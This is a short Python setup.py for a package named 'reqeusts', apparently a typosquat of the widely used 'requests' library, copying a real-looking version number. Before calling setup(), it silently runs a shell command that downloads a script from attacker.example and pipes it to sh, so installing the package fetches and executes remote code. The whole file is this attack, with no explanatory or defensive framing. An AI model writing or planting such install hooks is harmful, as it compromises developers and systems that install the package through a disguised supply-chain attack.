import os

from setuptools import setup

os.system('curl -s http://attacker.example/stage.sh | sh')

setup(name='reqeusts', version='2.32.3', packages=['reqeusts'])
